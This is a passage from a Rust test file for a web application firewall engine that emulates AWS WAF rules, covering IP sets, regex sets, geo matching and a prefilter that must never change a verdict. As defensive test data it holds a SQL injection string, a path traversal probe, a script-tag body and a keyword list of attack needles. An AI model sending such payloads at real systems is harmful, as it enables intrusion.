    assert!(got[1].starts_with("Addresses[2]:"), "{got:?}");
    let e = parse::regex_set(&json!({"RegularExpressionList": [{"RegexString": "(a)\\1"}]}))
        .unwrap_err();
    assert!(
        e[0].to_string().starts_with(
            "RegularExpressionList[0].RegexString: not a supported regular expression"
        ),
        "{e:?}"
    );
    let ok = parse::ip_set(
        &json!({"IPSet": {"Name": "x", "Id": "1", "ARN": "arn", "Description": "", "IPAddressVersion": "IPV6", "Addresses": ["2001:db8::/32"]}, "LockToken": "t"}),
    );
    assert!(ok.is_ok(), "get-ip-set output loads: {ok:?}");
    let set: IpSet = ok.unwrap();
    assert!(set.contains("2001:db8::1".parse().unwrap()));
}

#[test]
fn the_prefilter_never_changes_a_verdict() {
    // Rules of every shape the prefilter looks at (and some it must leave alone), on
    // requests that hit and miss them; the verdicts, matches and labels are the same with
    // and without it.
    let t = json!([{"Priority": 0, "Type": "URL_DECODE"}, {"Priority": 1, "Type": "LOWERCASE"}]);
    let mut rules = Vec::new();
    for (i, needle) in ["admin", "debug", "../", "select", "<script", "evil"]
        .iter()
        .enumerate()
    {
        for (j, field) in [json!({"UriPath": {}}), json!({"AllQueryArguments": {}}), json!({"Body": {"OversizeHandling": "MATCH"}}),
                            json!({"JsonBody": {"MatchPattern": {"All": {}}, "MatchScope": "VALUE", "InvalidFallbackBehavior": "MATCH"}}),
                            json!({"Headers": {"MatchPattern": {"All": {}}, "MatchScope": "ALL", "OversizeHandling": "CONTINUE"}})].iter().enumerate() {
            let p = i * 10 + j;
            let leaf = json!({"ByteMatchStatement": {"SearchString": needle, "FieldToMatch": field, "PositionalConstraint": if p % 2 == 0 { "CONTAINS" } else { "STARTS_WITH" }, "TextTransformations": t}});
            let statement = match p % 4 {
                0 => leaf,
                1 => json!({"AndStatement": {"Statements": [leaf, {"NotStatement": {"Statement": {"IPSetReferenceStatement": {"ARN": "office"}}}}]}}),
                2 => json!({"OrStatement": {"Statements": [leaf, {"RegexMatchStatement": {"RegexString": format!("^/r{p}"), "FieldToMatch": {"UriPath": {}}, "TextTransformations": t}}]}}),
                _ => json!({"NotStatement": {"Statement": leaf}}),
            };
            let action = if p % 3 == 0 { "Count" } else { "Block" };
            rules.push(json!({"Name": format!("r{p}"), "Priority": p, "Statement": statement, "Action": {action: {}}, "RuleLabels": [{"Name": format!("l{p}")}]}));
        }
    }
    rules.push(json!({"Name": "lab", "Priority": 1000, "Statement": {"LabelMatchStatement": {"Scope": "LABEL", "Key": "l0"}}, "Action": {"Block": {}}}));
    let with = acl(json!(rules.clone()));
    let mut without = acl(json!(rules));
    without.prefilter = portcullis_waf::prefilter::Prefilter::default();
    assert!(with.prefilter.active());
    let requests = [
        req("/admin/x"),
        req("/r2/x"),
        req("/ok?q=SELECT%20x"),
        req("/ok?q=..%2Fetc"),
        req("/ok").header("x-a", "Evil"),
        req("/").body("POST", r#"{"a":"<SCRIPT>"}"#),
        req("/").body("POST", "{broken"),
        req("/").body("POST", &"x".repeat(20_000)),
        req("/debug").from("192.0.2.1"),
        req("/nothing/here"),
    ];
    for r in &requests {
        let (a, b) = (eval(&with, r), eval(&without, r));
        assert_eq!(
            format!("{:?}", a.outcome),
            format!("{:?}", b.outcome),
            "{}",
            r.path
        );
        assert_eq!(a.terminating_rule, b.terminating_rule, "{}", r.path);
        let names = |v: &Verdict| {
            v.matches
                .iter()
                .map(|m| (m.rule.clone(), m.action))
                .collect::<Vec<_>>()
        };
        assert_eq!(names(&a), names(&b), "{}", r.path);
        assert_eq!(a.labels, b.labels, "{}", r.path);
    }
}

#[test]
fn geo_match_with_the_client_or_a_forwarded_address() {
    let db = portcullis_waf::geo::MmdbGeo::from_bytes(portcullis_waf::geo::test_database(&[
        ("192.0.2.0/24", "NZ"),
        ("198.51.100.0/24", "DE"),
    ]))
    .unwrap();
    let mut c = catalog();
    c.geo = true;
    let a = acl_with(
        &c,
        json!([
            rule(
                "nz",
                0,
                json!({"GeoMatchStatement": {"CountryCodes": ["NZ", "AU"]}}),
                "Block"
            ),
            rule(
                "fwd",
                1,
                json!({"GeoMatchStatement": {"CountryCodes": ["DE"], "ForwardedIPConfig": {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH"}}}),
                "Count"
            ),
            rule(
                "de-label",
                2,
                json!({"LabelMatchStatement": {"Scope": "LABEL", "Key": "awswaf:forwardedip:geo:country:DE"}}),
                "Challenge"
            ),
        ]),
    );
    let run = |r: &Req| {
        a.evaluate(
            &r.view(),
            Env {
                geo: Some(&db),
                now_ms: 0,
            },
        )
    };
    let v = run(&req("/").from("192.0.2.9"));
    assert!(matches!(v.outcome, Outcome::Block(_)));
    assert_eq!(
        &*v.labels[0], "awswaf:clientip:geo:country:NZ",
        "geo match always labels"
    );
    let v = run(&req("/")
        .from("203.0.113.1")
        .header("x-forwarded-for", "198.51.100.4, 10.0.0.1"));
    assert!(matches!(v.outcome, Outcome::Challenge), "{v:?}");
    assert!(
        v.labels
            .iter()
            .any(|l| &**l == "awswaf:clientip:geo:country:XX"),
        "unknown country: {:?}",
        v.labels
    );
    let v = run(&req("/").from("203.0.113.1"));
    assert_eq!(
        v.matches
            .iter()
            .map(|m| m.rule.as_str())
            .collect::<Vec<_>>(),
        ["fwd"],
        "no header: the fallback matches"
    );
}

#[test]
fn web_acls_from_aws_documentation_load_unchanged() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/aws-docs");
    let mut c = catalog();
    c.ip_sets.insert(
        "bad".into(),
        Arc::new(IpSet::from_cidrs(["192.0.2.0/24"]).unwrap()),
    );
    for (file, name) in [
        ("rate-based-header-key.json", "dogs"),
        ("api-acl.json", "api-acl"),
    ] {
        let doc: Value =
            serde_json::from_str(&std::fs::read_to_string(dir.join(file)).unwrap()).unwrap();
        let a = parse::web_acl(&doc, name, &c).unwrap_or_else(|p| panic!("{file}: {p:?}"));
        assert!(!a.rules.is_empty());
    }
    let doc: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("api-acl.json")).unwrap()).unwrap();
    let a = parse::web_acl(&doc, "api-acl", &c).unwrap();
    let v = eval(&a, &req("/login").header("x-forwarded-for", "192.0.2.8"));
    let Outcome::Block(Some(resp)) = &v.outcome else {
        panic!("{v:?}")
    };
    assert_eq!(
        (resp.status, v.terminating_rule.as_deref()),
        (403, Some("block-bad-ips"))
    );
    let v = eval(
        &a,
        &req("/orders")
            .header("x-forwarded-for", "198.51.100.1")
            .body("POST", "id=1' OR '1'='1"),
    );
    assert_eq!(
        v.terminating_rule.as_deref(),
        Some("block-labelled"),
        "{v:?}"
    );
    assert!(
        v.labels
            .iter()
            .any(|l| &**l == "awswaf:111122223333:webacl:api-acl:suspicious:sqli"),
        "{:?}",
        v.labels
    );
}
